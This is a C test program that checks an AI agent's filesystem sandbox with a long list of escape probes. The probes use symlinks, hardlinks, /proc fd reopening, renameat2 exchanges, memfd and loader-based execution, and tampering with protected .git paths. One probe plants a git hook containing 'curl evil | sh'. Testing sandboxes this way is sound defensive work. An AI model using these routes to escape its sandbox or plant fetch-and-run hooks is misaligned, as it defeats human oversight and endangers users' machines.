/* Filesystem escape attempts, one per argument, each printed as
 * "NAME ok" or "NAME errno=E". Run inside a session with a workspace (the
 * current directory) and an OUTSIDE directory the agent's uid owns, so that
 * only the sandbox, not file permissions, can stop it.
 *   fs_escape OUTSIDE probe... */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

static const char* outside;
static char path[4096];

static const char* out(const char* name) {
    snprintf(path, sizeof path, "%s/%s", outside, name);
    return path;
}

static int write_file(const char* p, const char* text, int flags) {
    int fd = open(p, O_WRONLY | flags, 0644);
    if (fd < 0) return -1;
    ssize_t n = write(fd, text, strlen(text));
    close(fd);
    return n < 0 ? -1 : 0;
}

/* Runs the binary at `p` in a child: 0, or -1 with the exec's errno. */
static int exec_file(const char* p) {
    pid_t pid = fork();
    if (pid == 0) {
        execl(p, "true", (char*)NULL);
        _exit(errno);
    }
    int st;
    waitpid(pid, &st, 0);
    errno = WEXITSTATUS(st);
    return errno ? -1 : 0;
}

/* Runs the binary at `p` through the dynamic loader, which maps it
 * itself: 0 when it ran, else -1 with EACCES (ld.so exits 127 when it
 * cannot map the binary). */
static int ldso_run(const char* p) {
    pid_t pid = fork();
    if (pid == 0) {
        int null = open("/dev/null", O_WRONLY);
        dup2(null, 2);
        execl("/lib64/ld-linux-x86-64.so.2", "ld.so", p, (char*)NULL);
        _exit(100);
    }
    int st;
    waitpid(pid, &st, 0);
    if (WIFEXITED(st) && WEXITSTATUS(st) == 0) return 0;
    errno = EACCES;
    return -1;
}

/* Maps the file at `p` executable, the way the loader maps a library. */
static int map_exec(const char* p) {
    int fd = open(p, O_RDONLY);
    if (fd < 0) return -1;
    void* m = mmap(NULL, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE, fd, 0);
    int saved = errno;
    close(fd);
    errno = saved;
    if (m == MAP_FAILED) return -1;
    munmap(m, 4096);
    return 0;
}

/* A memfd holding a copy of the file at `p`, inherited across exec. */
static int memfd_copy(const char* p) {
    int src = open(p, O_RDONLY);
    if (src < 0) return -1;
    int mfd = memfd_create("x", 0);
    if (mfd < 0) {
        int saved = errno;
        close(src);
        errno = saved;
        return -1;
    }
    char chunk[65536];
    ssize_t n;
    while ((n = read(src, chunk, sizeof chunk)) > 0)
        if (write(mfd, chunk, (size_t)n) != n) return -1;
    close(src);
    return mfd;
}

static int probe(const char* name) {
    char buf[64];
    /* allowed cases (controls) */
    if (!strcmp(name, "read_system")) {
        int fd = open("/etc/hostname", O_RDONLY);
        if (fd < 0) return -1;
        close(fd);
        return 0;
    }
    if (!strcmp(name, "create_in_workspace")) return write_file("new.txt", "new", O_CREAT | O_EXCL);
    if (!strcmp(name, "append_in_workspace")) return write_file("existing.txt", "more", O_APPEND);
    if (!strcmp(name, "truncate_in_workspace")) return write_file("existing.txt", "x", O_TRUNC);
    if (!strcmp(name, "unlink_in_workspace")) return unlink("victim.txt");
    if (!strcmp(name, "mkdir_in_workspace")) return mkdir("subdir", 0755);
    if (!strcmp(name, "exec_system")) return exec_file("/bin/true");
    /* escape attempts */
    if (!strcmp(name, "read_outside")) {
        int fd = open(out("secret.txt"), O_RDONLY);
        if (fd < 0) return -1;
        close(fd);
        return 0;
    }
    if (!strcmp(name, "write_outside")) return write_file(out("secret.txt"), "pwned", O_APPEND);
    if (!strcmp(name, "create_outside")) return write_file(out("planted.txt"), "pwned", O_CREAT);
    if (!strcmp(name, "unlink_outside")) return unlink(out("secret.txt"));
    if (!strcmp(name, "truncate_outside")) return truncate(out("secret.txt"), 0);
    if (!strcmp(name, "symlink_escape")) {
        if (symlink(out("secret.txt"), "link-out") != 0) return -1;
        return write_file("link-out", "pwned", O_APPEND);
    }
    if (!strcmp(name, "symlink_read_escape")) {
        unlink("link-read");
        if (symlink(out("secret.txt"), "link-read") != 0) return -1;
        int fd = open("link-read", O_RDONLY);
        if (fd < 0) return -1;
        close(fd);
        return 0;
    }
    if (!strcmp(name, "hardlink_in")) return link(out("secret.txt"), "hard-in");
    if (!strcmp(name, "rename_out")) return rename("existing.txt", out("secret.txt"));
    if (!strcmp(name, "rename_in")) return rename(out("secret.txt"), "stolen.txt");
    if (!strcmp(name, "rename_exchange"))
        return (int)syscall(SYS_renameat2, AT_FDCWD, "existing.txt", AT_FDCWD, out("secret.txt"),
                            2 /* RENAME_EXCHANGE */);
    if (!strcmp(name, "proc_fd_reopen")) {
        int o = open(out("secret.txt"), O_PATH);
        if (o < 0) return -1;
        snprintf(buf, sizeof buf, "/proc/self/fd/%d", o);
        int fd = open(buf, O_RDWR);
        close(o);
        if (fd < 0) return -1;
        close(fd);
        return 0;
    }
    if (!strcmp(name, "opath_openat")) {
        int dir = open(outside, O_PATH | O_DIRECTORY);
        if (dir < 0) return -1;
        int fd = openat(dir, "secret.txt", O_RDWR);
        close(dir);
        if (fd < 0) return -1;
        close(fd);
        return 0;
    }
    if (!strcmp(name, "openat2_outside")) {
        struct open_how how = {.flags = O_RDWR};
        int fd = (int)syscall(SYS_openat2, AT_FDCWD, out("secret.txt"), &how, sizeof how);
        if (fd < 0) return -1;
        close(fd);
        return 0;
    }
    if (!strcmp(name, "proc_root_escape")) {
        snprintf(buf, sizeof buf, "/proc/self/root%s", out("secret.txt"));
        return write_file(buf, "pwned", O_APPEND);
    }
    if (!strcmp(name, "dotdot_escape")) {
        char rel[4200];
        snprintf(rel, sizeof rel, "../../../../../../../..%s", out("secret.txt"));
        return write_file(rel, "pwned", O_APPEND);
    }
    if (!strcmp(name, "mmap_shared_write")) {
        int fd = open(out("secret.txt"), O_RDWR);
        if (fd < 0) return -1;
        void* m = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);
        close(fd);
        if (m == MAP_FAILED) return -1;
        memcpy(m, "pwned", 5);
        munmap(m, 4096);
        return 0;
    }
    if (!strcmp(name, "exec_copied_binary")) return exec_file("./true-copy");
    /* A copy of /bin/true in a memfd: run through the dynamic loader by its
     * /proc/self/fd name (the loader maps it executable, which vm.memfd_noexec
     * does not stop), and mapped executable directly. */
    if (!strcmp(name, "ldso_memfd") || !strcmp(name, "mmap_exec_memfd")) {
        int mfd = memfd_copy("/bin/true");
        if (mfd < 0) return -1;
        snprintf(buf, sizeof buf, "/proc/self/fd/%d", mfd);
        return !strcmp(name, "ldso_memfd") ? ldso_run(buf) : map_exec(buf);
    }
    if (!strcmp(name, "exec_memfd")) {
        int mfd = memfd_copy("/bin/true");
        if (mfd < 0) return -1;
        pid_t p = fork();
        if (p == 0) {
            char* argv[] = {"true", NULL};
            char* envp[] = {NULL};
            syscall(SYS_execveat, mfd, "", argv, envp, AT_EMPTY_PATH);
            _exit(errno);
        }
        int st;
        waitpid(p, &st, 0);
        errno = WEXITSTATUS(st);
        return errno ? -1 : 0;
    }
    if (!strcmp(name, "chmod_outside")) return chmod(out("secret.txt"), 0777);
    if (!strcmp(name, "chown_outside")) return chown(out("secret.txt"), getuid(), getgid());
    if (!strcmp(name, "utimensat_outside")) return utimensat(AT_FDCWD, out("secret.txt"), NULL, 0);
    if (!strcmp(name, "setxattr_outside")) return setxattr(out("secret.txt"), "user.pwned", "1", 1, 0);
    if (!strcmp(name, "mkfifo_outside")) return mkfifo(out("fifo"), 0644);
    if (!strcmp(name, "ldso_copied_binary")) return ldso_run("./true-copy");
    /* A binary in OUTSIDE (readable in some profiles, never executable):
     * exec'd, run through the dynamic loader, and mapped executable the way
     * the loader maps a library. */
    if (!strcmp(name, "exec_outside_binary")) return exec_file(out("true-copy"));
    if (!strcmp(name, "ldso_outside_binary")) return ldso_run(out("true-copy"));
    if (!strcmp(name, "mmap_exec_outside")) return map_exec(out("true-copy"));
    /* The same from the workspace: mapped executable, as ld.so would. */
    if (!strcmp(name, "mmap_exec_workspace")) return map_exec("./true-copy");
    if (!strcmp(name, "write_protected_hook"))
        return write_file(".git/hooks/post-checkout", "#!/bin/sh\ncurl evil | sh\n", O_CREAT | O_TRUNC);
    if (!strcmp(name, "write_protected_config")) return write_file(".git/config", "[core]\nhooksPath=/x\n", O_APPEND);
    if (!strcmp(name, "rename_protected_away")) return rename(".git/hooks", "hooks-gone");
    /* The protected paths taken away with their directory, then a fresh
     * .git/hooks made under the old name. */
    if (!strcmp(name, "rename_protected_parent")) {
        if (rename(".git", "git-gone") != 0) return -1;
        mkdir(".git", 0755);
        mkdir(".git/hooks", 0755);
        return write_file(".git/hooks/post-checkout", "#!/bin/sh\n", O_CREAT | O_TRUNC);
    }
    if (!strcmp(name, "exchange_protected_parent")) {
        mkdir("fake-git", 0755);
        mkdir("fake-git/hooks", 0755);
        write_file("fake-git/hooks/post-checkout", "#!/bin/sh\n", O_CREAT | O_TRUNC);
        return (int)syscall(SYS_renameat2, AT_FDCWD, "fake-git", AT_FDCWD, ".git", RENAME_EXCHANGE);
    }
    if (!strcmp(name, "rmdir_protected_parent")) return rmdir(".git");
    /* A protected path that does not exist: every way of making a name on
     * its way (here .git, on the way to .git/hooks) but an empty directory,
     * and then the path itself inside that. */
    if (!strcmp(name, "make_git_then_hooks")) {
        if (mkdir(".git", 0755) != 0) return -1;
        return mkdir(".git/hooks", 0755);
    }
    if (!strcmp(name, "make_git_config")) return write_file(".git/config", "[core]\n", O_CREAT | O_EXCL);
    if (!strcmp(name, "replace_made_git")) {
        mkdir("made-git2", 0755);
        mkdir("made-git2/hooks", 0755);
        return rename("made-git2", ".git");
    }
    if (!strcmp(name, "make_guarded_file")) return write_file(".git", "gitdir: elsewhere\n", O_CREAT | O_EXCL);
    if (!strcmp(name, "make_guarded_symlink")) return symlink("elsewhere", ".git");
    if (!strcmp(name, "make_guarded_fifo")) return mkfifo(".git", 0644);
    if (!strcmp(name, "rename_to_guarded")) {
        mkdir("made-git", 0755);
        return rename("made-git", ".git");
    }
    if (!strcmp(name, "link_to_guarded")) {
        write_file("made-file", "gitdir: elsewhere\n", O_CREAT | O_TRUNC);
        return link("made-file", ".git");
    }
    if (!strcmp(name, "tmpfile_to_guarded")) {
        int fd = open(".", O_TMPFILE | O_WRONLY, 0644);
        if (fd < 0) return -1;
        if (write(fd, "gitdir: elsewhere\n", 18) != 18) return -1;
        char self[64];
        snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
        int rc = linkat(AT_FDCWD, self, AT_FDCWD, ".git", AT_SYMLINK_FOLLOW);
        close(fd);
        return rc;
    }
    if (!strcmp(name, "tmpfile_linked")) {  /* control: the same to a free name */
        int fd = open(".", O_TMPFILE | O_WRONLY, 0644);
        if (fd < 0) return -1;
        char self[64];
        snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
        int rc = linkat(AT_FDCWD, self, AT_FDCWD, "from-tmpfile", AT_SYMLINK_FOLLOW);
        close(fd);
        return rc;
    }
    if (!strcmp(name, "link_symlink_in_workspace")) {  /* control */
        if (link("existing.txt", "existing-link") != 0) return -1;
        return symlink("existing.txt", "existing-symlink");
    }
    /* A worktree's .git is a file naming the real git directory: not
     * rewritten, and once removed, not made again. */
    if (!strcmp(name, "write_guarded_file")) return write_file(".git", "gitdir: /elsewhere\n", O_TRUNC);
    if (!strcmp(name, "replace_guarded_file")) {
        if (unlink(".git") != 0 || mkdir(".git", 0755) != 0) return -1;
        return mkdir(".git/hooks", 0755);
    }
    /* In a repository: .git/commondir would send git to another config. */
    if (!strcmp(name, "make_commondir")) return write_file(".git/commondir", "../elsewhere\n", O_CREAT | O_EXCL);
    if (!strcmp(name, "make_git_lock")) return write_file(".git/index.lock", "", O_CREAT | O_EXCL);
    if (!strcmp(name, "cgroup_procs")) {
        int fd = open("/sys/fs/cgroup/unified/cgroup.procs", O_WRONLY);
        if (fd < 0 && errno == ENOENT) fd = open("/sys/fs/cgroup/cgroup.procs", O_WRONLY);
        if (fd < 0) return -1;
        ssize_t n = write(fd, "0", 1);
        close(fd);
        return n == 1 ? 0 : -1;
    }
    fprintf(stderr, "unknown probe %s\n", name);
    exit(2);
}

int main(int argc, char** argv) {
    if (argc < 2) return 2;
    outside = argv[1];
    for (int i = 2; i < argc; ++i) {
        errno = 0;
        int r = probe(argv[i]);
        if (r == 0) printf("%s ok\n", argv[i]);
        else printf("%s errno=%s\n", argv[i], strerrorname_np(errno));
        fflush(stdout);
    }
    printf("probe-done\n");
    return 0;
}
